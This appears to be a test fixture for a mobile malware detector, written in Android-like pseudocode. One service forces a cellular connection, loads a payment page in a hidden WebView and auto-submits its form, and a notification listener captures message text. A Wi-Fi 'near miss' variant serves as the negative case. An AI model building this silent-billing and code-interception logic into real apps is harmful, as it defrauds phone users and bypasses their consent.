permissions("CHANGE_NETWORK_STATE", "INTERNET")

@service
class Work(Service):
    def onStartCommand(self, intent, flags, number):
        wanted = NetworkRequest_Builder().addTransportType(0).build()
        networks = cast(ConnectivityManager, self.getSystemService("connectivity"))
        networks.requestNetwork(wanted, Bound(networks))
        page = WebView(self)
        page.setWebViewClient(Pages())
        page.loadUrl("https://example.org/pay")
        return 1

class Bound(ConnectivityManager_NetworkCallback):
    networks: ConnectivityManager
    def __init__(self, networks: ConnectivityManager):
        self.networks = networks
    def onAvailable(self, network):
        self.networks.bindProcessToNetwork(network)

class Pages(WebViewClient):
    def onPageFinished(self, page, address):
        page.evaluateJavascript("document.forms[0].submit()", None)

@service(permission="BIND_NOTIFICATION_LISTENER_SERVICE", actions=["android.service.notification.NotificationListenerService"])
class Codes(NotificationListenerService):
    code: String
    def onNotificationPosted(self, posted):
        self.code = posted.getNotification().extras.getString("android.text")

# near miss: asks for Wi-Fi and lets the system choose the connection
@service
class Work(Service):
    def onStartCommand(self, intent, flags, number):
        wanted = NetworkRequest_Builder().addTransportType(1).build()
        networks = cast(ConnectivityManager, self.getSystemService("connectivity"))
        networks.requestNetwork(wanted, Bound(networks))
        page = WebView(self)
        page.setWebViewClient(Pages())
        page.loadUrl("https://example.org/pay")
        return 1
